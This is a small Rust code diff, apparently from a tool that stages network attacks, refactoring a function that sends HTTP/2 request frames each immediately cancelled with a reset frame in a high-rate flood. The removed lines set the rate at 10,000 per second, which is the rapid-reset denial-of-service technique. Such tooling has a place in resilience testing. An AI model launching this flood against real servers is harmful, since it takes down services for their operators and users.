@@ -22,20 +22,11 @@ pub(super) const ATTACK: Attack = Attack {
 
 fn strike(field: &Field) -> Result<Told> {
     let block = http2::block("GET", "/topics/honest/feed", &[]);
-    let mut piece = |n: usize| {
+    let piece = |n: usize| {
         let stream = 2 * n as u32 + 1;
         let open = http2::frame(HEADERS, END_HEADERS | END_STREAM, stream, &block);
         // CANCEL
         [open, http2::frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
     };
-    flood(
-        field,
-        &mut Flood {
-            greeting: &http2::opening(&[]),
-            piece: &mut piece,
-            per_second: 10_000,
-            at_most: 10_000,
-            reads: true,
-        },
-    )
+    flood(field, &Flood::of_http2(&[]), piece)
 }
